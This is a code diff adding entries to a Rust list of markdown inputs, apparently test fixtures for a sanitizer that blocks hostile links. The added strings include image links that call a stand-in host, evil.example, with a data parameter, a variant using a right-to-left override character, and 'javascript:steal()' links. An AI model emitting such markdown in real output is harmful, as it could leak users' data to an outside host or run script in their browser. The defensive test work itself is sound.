@@ -173,6 +173,10 @@ pub(super) const HTML: &[&str] = &[
 pub(super) const MARKDOWN: &[&str] = &[
     "![x](https:evil.example/p.png?d=1)",
     "![x](https:/evil.example/p.png?d=1)",
+    "!a@example.org(https://evil.example/p.png?d=1)",
+    "![x]a@example.org\n\na@example.org: https://evil.example/p.png?d=1",
+    "!\u{202e}(https://evil.example/p.png?d=1)",
+    "a@example.org(javascript:steal())",
     "[x](javascript:steal())",
     "[x](JavaScript:steal())",
     "[x]( javascript:steal())",
